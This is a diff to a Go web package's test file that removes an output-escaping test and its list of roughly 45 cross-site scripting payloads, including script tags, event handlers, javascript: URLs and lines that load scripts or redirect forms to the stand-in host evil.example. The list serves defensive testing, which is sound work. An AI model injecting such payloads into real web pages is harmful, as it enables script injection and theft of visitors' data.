@@ -1,7 +1,6 @@
 package web
 
 import (
-	"fmt"
 	"math"
 	"net/http"
 	"os"
@@ -14,7 +13,6 @@ import (
 
 	"github.com/workdrift/workdrift/cmd/workdrift/internal/config"
 	"github.com/workdrift/workdrift/scoring"
-	"github.com/workdrift/workdrift/scoring/objective"
 	"github.com/workdrift/workdrift/store"
 )
 
@@ -235,139 +233,6 @@ func TestPagesAreAccessible(t *testing.T) {
 			}
 		}
 	}
-}
-
-// hostile returns a report and sources with a text wherever one can come from
-// a configuration or from upstream.
-func hostile(t *testing.T, text string) (*scoring.Report, []Source) {
-	r := fullReport(t)
-	r.Late = []string{text}
-	o := &r.Objectives[0]
-	o.ID, o.Title, o.Owner, o.State = text, text, text, objective.State(text)
-	for i := range r.Windows {
-		w := &r.Windows[i]
-		w.Label = text
-		w.Org.Objectives[0].Objective = text
-		w.Org.Score(scoring.ShadowRoadmap).Verdict = text
-		w.Teams[0].Team = text
-	}
-	return r, []Source{{Name: text, Provider: text, Failure: text}}
-}
-
-func TestHostileTextsLeaveThePageAlone(t *testing.T) {
-	plain := func(r *scoring.Report, s []Source) string { return pageAt(t, "/", r, s...) }
-	harmless := plain(hostile(t, "harmless"))
-	want := tags(harmless)
-	if len(want) < 100 || strings.Count(harmless, "harmless") < 6 {
-		t.Fatalf("only %d tags and %d places for a text: the test looks at the wrong page", len(want), strings.Count(harmless, "harmless"))
-	}
-	withheld := func(text string) string {
-		r, s := hostile(t, text)
-		r.Windows[0].Org.Status, r.Windows[0].Org.Reason = scoring.SuppressedPrivacy, text
-		return plain(r, s)
-	}
-	wantWithheld := tags(withheld("harmless"))
-	effective := 0
-	for _, payload := range payloads {
-		body := plain(hostile(t, payload))
-		if got := tags(body); fmt.Sprint(got) != fmt.Sprint(want) {
-			t.Errorf("%q changes the page:\n%s", payload, body)
-		}
-		if got := tags(withheld(payload)); fmt.Sprint(got) != fmt.Sprint(wantWithheld) {
-			t.Errorf("%q changes the page of what is withheld", payload)
-		}
-		// The same text, not escaped, would be seen.
-		if raw := strings.ReplaceAll(harmless, "harmless", payload); fmt.Sprint(tags(raw)) != fmt.Sprint(want) {
-			effective++
-		}
-	}
-	if effective < 25 {
-		t.Errorf("only %d of %d payloads would do anything", effective, len(payloads))
-	}
-}
-
-// payloads break out of text, attributes, comments, scripts and templates.
-var payloads = []string{
-	`<script>alert(1)</script>`,
-	`<ScRiPt>alert(1)</sCrIpT>`,
-	`<script src=//evil.example/x.js></script>`,
-	`<script/x>alert(1)</script>`,
-	`<img src=x onerror=alert(1)>`,
-	`<img src="x" onerror="alert(1)"`,
-	`<svg onload=alert(1)>`,
-	`<svg><script>alert(1)</script></svg>`,
-	`<svg/onload=alert(1)//`,
-	`<body onload=alert(1)>`,
-	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
-	`<object data="javascript:alert(1)"></object>`,
-	`<embed src="javascript:alert(1)">`,
-	`<a href="javascript:alert(1)">click</a>`,
-	`<form action="//evil.example"><input name=q>`,
-	`<base href="//evil.example/">`,
-	`<meta http-equiv="refresh" content="0;url=//evil.example">`,
-	`<link rel=stylesheet href=//evil.example/x.css>`,
-	`<style>@import '//evil.example/x.css'</style>`,
-	`<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>`,
-	`</td></tr></table><h1>Workdrift was here</h1>`,
-	`</title><script>alert(1)</script>`,
-	`</svg><script>alert(1)</script>`,
-	`</main></body></html><script>alert(1)</script>`,
-	`--><script>alert(1)</script><!--`,
-	`<!--`,
-	`<!DOCTYPE html><p>`,
-	`<?xml version="1.0"?>`,
-	`]]><script>alert(1)</script>`,
-	`"><script>alert(1)</script>`,
-	`'><script>alert(1)</script>`,
-	`<x/onmouseover=alert(1)>`,
-	`<details open ontoggle=alert(1)>`,
-	`<marquee onstart=alert(1)>`,
-	"<img src=`x`onerror=alert(1)>",
-	"<\x00script>alert(1)</script>",
-	"<script\x0c>alert(1)</script>",
-	`" onmouseover="alert(1)`,
-	`' autofocus onfocus='alert(1)`,
-	`{{.Version}}{{template "status.html"}}`,
-	`&lt;script&gt;alert(1)&lt;/script&gt;`,
-	`javascript:alert(1)`,
-	"\u202e<script>alert(1)</script>",
-	"\xff\xfe<script>alert(1)</script>",
-	strings.Repeat("<b>", 500),
-}
-
-// tags returns the markup of a page in order, with the names of attributes: what
-// is left when texts are taken away. A tag begins where a browser sees one, at
-// a < before a letter, a slash, ! or ?, and ends at the next > outside quotes.
-var values = regexp.MustCompile(`="[^"]*"`)
-
-func tags(page string) []string {
-	list := rawTags(page)
-	for i := range list {
-		list[i] = values.ReplaceAllString(list[i], `=""`)
-	}
-	return list
-}
-
-// rawTags are tags with the values of their attributes.
-func rawTags(page string) []string {
-	var out []string
-	for i := 0; i+1 < len(page); i++ {
-		if c := page[i+1] | 0x20; page[i] != '<' || (c < 'a' || c > 'z') && !strings.ContainsRune("/!?", rune(page[i+1])) {
-			continue
-		}
-		end, quote := i+1, byte(0)
-		for ; end < len(page) && (quote != 0 || page[end] != '>'); end++ {
-			switch c := page[end]; {
-			case quote == c:
-				quote = 0
-			case quote == 0 && (c == '"' || c == '\''):
-				quote = c
-			}
-		}
-		out = append(out, page[i:min(end+1, len(page))])
-		i = end
-	}
-	return out
 }
 
 // Missing weeks look missing: a line ends before them and begins behind them.
